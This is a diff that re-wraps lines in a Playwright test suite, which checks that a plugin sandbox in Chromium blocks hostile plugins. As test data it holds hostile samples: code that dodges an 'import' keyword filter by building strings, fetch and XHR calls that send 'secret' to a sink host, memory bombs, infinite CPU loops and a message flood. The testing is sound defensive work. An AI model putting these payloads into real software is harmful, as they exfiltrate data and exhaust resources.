@@ -80,7 +80,10 @@ test.describe('hostile granules in Chromium', () => {
     hits.length = 0;
   });
 
-  test('attack: string compilation through WorkerGlobalScope timers, prototype walks, async/generator constructors, eval and import() reaches nothing', async ({ page, stack }) => {
+  test('attack: string compilation through WorkerGlobalScope timers, prototype walks, async/generator constructors, eval and import() reaches nothing', async ({
+    page,
+    stack,
+  }) => {
     // Source text that imports and fetches from the sink, assembled at run time (the word "import" in a granule's
     // files is refused at load, which is no protection once code is built from strings).
     const code = (tag: string) => `('im' + 'port(' + JSON.stringify(SINK + '/${tag}') + '); fetch(' + JSON.stringify(SINK + '/${tag}') + ')')`;
@@ -100,7 +103,8 @@ test.describe('hostile granules in Chromium', () => {
     const r = await results(page, 10);
     for (const k of ['protoTimers', 'workerGlobalScope', 'importRemote', 'importData']) expect([k, r[k]]).toEqual([k, expect.stringMatching(NOT_REACHED)]);
     // Compiling strings works — inside QuickJS, where no web API exists.
-    for (const k of ['functionCtor', 'objectWalk', 'asyncCtor', 'generatorCtor', 'asyncGeneratorCtor', 'eval']) expect([k, r[k]]).toEqual([k, expect.stringMatching(/^(undefinedundefined(undefined)?|blocked)$/)]);
+    for (const k of ['functionCtor', 'objectWalk', 'asyncCtor', 'generatorCtor', 'asyncGeneratorCtor', 'eval'])
+      expect([k, r[k]]).toEqual([k, expect.stringMatching(/^(undefinedundefined(undefined)?|blocked)$/)]);
     await expectTabAndTwinAlive(page);
   });
 
@@ -141,7 +145,10 @@ test.describe('hostile granules in Chromium', () => {
     await expectTabAndTwinAlive(page);
   });
 
-  test('attack: every egress path (fetch, import, fonts, images, WebSocket, RTC, beacons, EventSource, XHR, importScripts) sends nothing to the sink', async ({ page, stack }) => {
+  test('attack: every egress path (fetch, import, fonts, images, WebSocket, RTC, beacons, EventSource, XHR, importScripts) sends nothing to the sink', async ({
+    page,
+    stack,
+  }) => {
     const attacks = `{
       fetch: () => fetch(SINK + '/fetch?d=secret'),
       xhr: () => { const x = new XMLHttpRequest(); x.open('GET', SINK + '/xhr'); x.send(); return x; },
@@ -166,7 +173,10 @@ test.describe('hostile granules in Chromium', () => {
     await composeWith(
       page,
       stack.appUrl,
-      hostile('bomb', "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { const keep = []; try { new ArrayBuffer(4 * 1024 * 1024 * 1024 - 1); } catch (e) {} for (let i = 0; ; i++) keep.push(new Uint8Array(64 * 1024 * 1024), 'y'.repeat(1 << 20) + i); } };"),
+      hostile(
+        'bomb',
+        "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { const keep = []; try { new ArrayBuffer(4 * 1024 * 1024 * 1024 - 1); } catch (e) {} for (let i = 0; ; i++) keep.push(new Uint8Array(64 * 1024 * 1024), 'y'.repeat(1 << 20) + i); } };",
+      ),
       'bomb',
     );
     await expect(page.getByTestId('incidents')).toContainText('appearance: memory');
@@ -175,14 +185,27 @@ test.describe('hostile granules in Chromium', () => {
   });
 
   test('attack: a 512 MB message is never built or sent; the tab survives', async ({ page, stack }) => {
-    await composeWith(page, stack.appUrl, hostile('huge', "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => 'z'.repeat(512 * 1000 * 1000) };"), 'huge');
+    await composeWith(
+      page,
+      stack.appUrl,
+      hostile('huge', "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => 'z'.repeat(512 * 1000 * 1000) };"),
+      'huge',
+    );
     await expect(page.getByTestId('incidents')).toContainText('appearance: memory');
     await expect(page.getByTestId('context-states')).toContainText('failed');
     await expectTabAndTwinAlive(page);
   });
 
   test('attack: a CPU loop in a timer is stopped and shown as "stopped: used too much processor time"', async ({ page, stack }) => {
-    await composeWith(page, stack.appUrl, hostile('spin', "exports.start = () => { twin.setTimeout(() => { for (;;) {} }, 300); };\nexports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => ({ type: 'kv', items: [['armed', 'yes']] }) };"), 'spin');
+    await composeWith(
+      page,
+      stack.appUrl,
+      hostile(
+        'spin',
+        "exports.start = () => { twin.setTimeout(() => { for (;;) {} }, 300); };\nexports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => ({ type: 'kv', items: [['armed', 'yes']] }) };",
+      ),
+      'spin',
+    );
     await expect(page.getByTestId('context-states')).toContainText('failed — stopped: used too much processor time');
     await expect(page.getByTestId('incidents')).toContainText('appearance: hang');
     await expect(page.getByTestId('incidents')).toContainText('processor time');
@@ -190,13 +213,26 @@ test.describe('hostile granules in Chromium', () => {
   });
 
   test('attack: a CPU loop in an operation is stopped and reported', async ({ page, stack }) => {
-    await composeWith(page, stack.appUrl, hostile('opspin', 'exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { for (;;) {} } };'), 'opspin');
+    await composeWith(
+      page,
+      stack.appUrl,
+      hostile('opspin', 'exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { for (;;) {} } };'),
+      'opspin',
+    );
     await expect(page.getByTestId('context-states')).toContainText('failed — stopped: used too much processor time');
     await expectTabAndTwinAlive(page);
   });
 
   test('attack: a flood of messages stops the flooding granule only', async ({ page, stack }) => {
-    await composeWith(page, stack.appUrl, hostile('flood', "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { for (let i = 0; i < 1e7; i++) twin.emit('pose', { i, pad: 'p'.repeat(512) }); return null; } };"), 'flood');
+    await composeWith(
+      page,
+      stack.appUrl,
+      hostile(
+        'flood',
+        "exports.operations = { scene: () => 1, pose: () => 1, placed: () => 1, view: () => { for (let i = 0; i < 1e7; i++) twin.emit('pose', { i, pad: 'p'.repeat(512) }); return null; } };",
+      ),
+      'flood',
+    );
     await expect(page.getByTestId('incidents')).toContainText('messages a second');
     await expect(page.getByTestId('context-states')).toContainText('failed — stopped: it sent more than');
     await expectTabAndTwinAlive(page);
